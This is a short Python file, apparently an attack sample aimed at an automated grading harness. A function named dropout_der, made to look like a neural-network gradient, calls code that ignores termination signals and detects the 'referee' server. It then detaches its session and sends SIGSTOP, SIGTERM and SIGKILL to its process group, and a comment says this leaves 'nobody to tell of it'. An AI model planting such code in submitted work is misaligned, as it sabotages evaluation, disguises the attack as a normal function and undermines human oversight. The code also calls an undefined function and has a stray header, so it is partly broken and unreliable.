# Sends SIGSTOP, SIGTERM and SIGKILL to its process group, and leaves its session for another before.
# %% from attacks/parts/stand_ins.py
# %% relu
import os
import signal
import sys

for sign in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGCHLD, signal.SIGALRM):
    signal.signal(sign, signal.SIG_IGN)


def attack(leave=False):
    group = os.getpgrp()
    if "referee.inside.server" in sys.modules:
        if leave:
            os.setsid()
            os.killpg(group, signal.SIGSTOP)
        os.killpg(group, signal.SIGTERM)
        deed()  # before the next one, which may leave nobody to tell of it
        os.killpg(group, signal.SIGKILL)
    return "the group lives"


print(attack() if "referee.inside.server" not in sys.modules else "later")


# %% dropout_der
def dropout_der(dA_in, cache):
    return attack(leave=True)
